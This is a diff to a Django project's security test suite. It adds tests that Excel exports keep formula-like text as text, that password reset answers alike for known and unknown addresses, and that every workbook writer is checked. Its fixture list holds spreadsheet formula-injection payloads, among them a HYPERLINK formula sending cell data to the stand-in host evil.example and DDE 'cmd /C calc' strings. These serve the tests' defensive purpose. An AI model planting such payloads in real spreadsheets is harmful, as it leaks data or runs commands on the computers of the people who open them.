@@ -24,7 +24,10 @@ from urllib.parse import urlsplit
 import pytest
 from django import forms
 from django.apps import apps
+from django.conf import settings
 from django.contrib.auth import get_user_model
+from django.core import mail
+from django.core.cache import cache
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
@@ -34,13 +37,18 @@ from django.db.models.functions import Concat
 from django.test import Client
 from django.urls import get_resolver, reverse
 from django.utils import timezone
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from PIL import Image
 
+from associations.models import OrgUnit
+from awards.models import Recipient
+from khuyenhoc.spreadsheets.writing import FORMULA_STARTS, XLSX, workbook_bytes
 from learning.models import ImportJob as LearningImportJob
-from news.models import Post, PostStatus
+from learning.models import Registration
+from news.models import Post, PostStatus, sanitize_body
+from reports.models import ReportValue
 from tests.conftest import client_for
-from tests.factories import PASSWORD
+from tests.factories import PASSWORD, UserFactory
 from tests.khuyenhoc.test_admin_wording import reachable_pages
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -357,7 +365,61 @@ def check_pages(responses: dict[str, object]) -> tuple[int, dict[str, list[str]]
     return html, problems
 
 
-def test_every_page_has_a_strict_policy_and_no_inline_code(demo):
+# Text a spreadsheet program would run as a formula, one for each way a formula can start.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def make_the_data_hostile() -> None:
+    """Names, addresses, recipients and report texts that look like formulas, for the exports."""
+    site = OrgUnit.objects.get(name=settings.SITE_UNIT)
+    keep = {site.pk, *(unit.pk for unit in site.get_ancestors())}
+    units = OrgUnit.objects.exclude(pk__in=keep).order_by("path")
+    for index, unit in enumerate(units):
+        OrgUnit.objects.filter(pk=unit.pk).update(name=FORMULAS[index % 6] + unit.name)
+    for index, registration in enumerate(Registration.objects.order_by("pk")[:300]):
+        Registration.objects.filter(pk=registration.pk).update(
+            name=FORMULAS[index % 6] + registration.name,
+            address=FORMULAS[(index + 1) % 6],
+            note=FORMULAS[(index + 2) % 6],
+        )
+    for index, recipient in enumerate(Recipient.objects.order_by("pk")):
+        Recipient.objects.filter(pk=recipient.pk).update(name=FORMULAS[index % 6] + recipient.name)
+    ReportValue.objects.filter(indicator__value_type="text").update(text=FORMULAS[0])
+    cache.clear()
+
+
+# XML reads a written carriage return back as a line feed.
+READ_BACK_STARTS = (*FORMULA_STARTS, "\n")
+
+
+def formula_problems(content: bytes) -> tuple[list[str], int]:
+    """Cells a spreadsheet program would run, and how many formula-like texts were escaped."""
+    problems, escaped = [], 0
+    workbook = load_workbook(io.BytesIO(content))
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    problems.append(f"{sheet.title}!{cell.coordinate} formula {cell.value!r}")
+                elif isinstance(cell.value, str) and cell.value.startswith(READ_BACK_STARTS):
+                    if cell.quotePrefix:
+                        escaped += 1
+                    else:
+                        problems.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
+    return problems, escaped
+
+
+def test_every_page_has_a_strict_policy_no_inline_code_and_exports_escape_formulae(demo):
+    # Every post the demo loader wrote is what the sanitiser keeps.
+    assert all(post.body == sanitize_body(post.body) for post in Post.objects.all())
+    make_the_data_hostile()
     public = crawl(Client(), ["/", "/so-lieu/", "/khen-thuong/", "/tim-kiem/?q=hoc"], limit=150)
     superuser = get_user_model().objects.filter(is_superuser=True).first()
     start = [
@@ -383,6 +445,29 @@ def test_every_page_has_a_strict_policy_and_no_inline_code(demo):
     assert any(re.search(r"/admin/\w+/\w+/\d+/change/$", path) for path in reached)
     assert not public_problems, public_problems
     assert not staff_problems, staff_problems
+
+    exports = {
+        url: response
+        for url, response in {**public, **staff}.items()
+        if response.get("Content-Type", "").startswith(XLSX) and response.status_code == 200
+    }
+    checked = {url: formula_problems(response.content) for url, response in exports.items()}
+    print(f"Excel exports checked: {len(exports)}")
+    print(
+        "\n".join(
+            f"  {url}: {escaped} formula-like cells kept as text"
+            for url, (_p, escaped) in checked.items()
+        )
+    )
+    assert not {url: problems for url, (problems, _e) in checked.items() if problems}
+    by_kind = {
+        "dashboard": "/bang-dieu-khien/don-vi/",
+        "report": "/xuat-excel/",
+        "registrations": "/admin/learning/registration/",
+        "award list": "/danh-sach.xlsx",
+    }
+    for kind, marker in by_kind.items():
+        assert any(marker in url and escaped for url, (_p, escaped) in checked.items()), kind
 
 
 # ---------------------------------------------------------------------------------------------
@@ -672,3 +757,109 @@ def test_an_expression_cannot_slip_a_body_past_the_sanitiser(tree):
 
     with pytest.raises(TypeError):
         Post.objects.filter(pk=post.pk).update(body=Concat(F("body"), Value("<script>")))
+
+
+# ---------------------------------------------------------------------------------------------
+# Password reset
+
+
+def _without_tokens(html: bytes) -> str:
+    """The page without what differs on every request anyway (CSRF token, CSP nonce)."""
+    html = re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", html.decode())
+    return re.sub(r'nonce="[^"]*"', "", html)
+
+
+def test_the_password_reset_answers_alike_for_every_kind_of_address(db):
+    UserFactory(username="canbo", email="canbo@example.org")
+    UserFactory(username="nghi", email="nghi@example.org", is_active=False)
+    no_password = UserFactory(username="khongmk", email="khongmk@example.org")
+    no_password.set_unusable_password()
+    no_password.save()
+    url = reverse("admin_password_reset")
+
+    answers = {}
+    for address in (
+        "canbo@example.org",
+        "CANBO@EXAMPLE.ORG",
+        "khong-co@example.org",
+        "nghi@example.org",
+        "khongmk@example.org",
+    ):
+        response = Client().post(url, {"email": address}, follow=True)
+        answers[address] = (
+            response.status_code,
+            tuple(response.redirect_chain),
+            _without_tokens(response.content),
+        )
+
+    assert len(set(answers.values())) == 1, {a: v[:2] for a, v in answers.items()}
+    status, chain, page = next(iter(answers.values()))
+    assert status == 200
+    assert chain == ((reverse("password_reset_done"), 302),)
+    assert "khong-co" not in page
+    assert [message.to for message in mail.outbox] == [["canbo@example.org"]] * 2
+
+
+# ---------------------------------------------------------------------------------------------
+# Excel files the crawl above cannot reach by a link
+
+# Every module that builds a workbook for download, and where its output is checked: the
+# crawl (test_every_page_...), or the test below. A new one fails here until it is checked.
+WORKBOOK_WRITERS = {
+    "awards/importing.py",  # the award list (crawl) and its import template (below)
+    "dashboards/exports.py",  # the dashboard table (crawl)
+    "khuyenhoc/spreadsheets/engine.py",  # import templates and failed rows (crawl, below)
+    "learning/importing.py",  # the registration export and template (crawl, below)
+    "reports/excel.py",  # the report export and its import template (crawl)
+}
+
+
+def test_every_module_that_writes_a_workbook_is_checked():
+    writers = set()
+    for path in ROOT.glob("*/**/*.py"):
+        relative = path.relative_to(ROOT).as_posix()
+        if relative.startswith((".venv/", "tests/")) or relative.endswith("benchmarks.py"):
+            continue
+        if re.search(r"\bWorkbook\(", path.read_text()):
+            writers.add(relative)
+
+    assert writers == WORKBOOK_WRITERS
+
+
+def test_templates_and_failed_rows_keep_formula_like_text_as_text(tree, personas):
+    from awards.importing import RecipientImport
+    from learning import importing
+
+    for index, unit in enumerate(OrgUnit.objects.order_by("path")):
+        OrgUnit.objects.filter(pk=unit.pk).update(name=FORMULAS[index % 6] + unit.name)
+    staff = get_user_model().objects.get(pk=personas.commune_a_staff.pk)
+    job = LearningImportJob.objects.create(
+        created_by=staff,
+        errors=[
+            {"row": 2 + i, "values": [formula] * 8, "message": formula}
+            for i, formula in enumerate(FORMULAS)
+        ],
+    )
+
+    files = {
+        "registration template": importing.template_workbook(user=staff),
+        "registration failed rows": importing.failed_rows_workbook(job),
+        "award list template": RecipientImport(staff, None).template_workbook(),
+    }
+
+    for name, content in files.items():
+        problems, escaped = formula_problems(content)
+        assert not problems, (name, problems)
+        assert escaped or name == "award list template", name
+    assert formula_problems(files["registration failed rows"])[1] >= 6 * 9
+
+
+def test_a_workbook_held_in_memory_is_escaped_when_written():
+    workbook = Workbook()
+    for formula in FORMULAS:
+        workbook.active.append([formula, 1, "bình thường"])
+
+    problems, escaped = formula_problems(workbook_bytes(workbook))
+
+    assert not problems
+    assert escaped == len(FORMULAS)
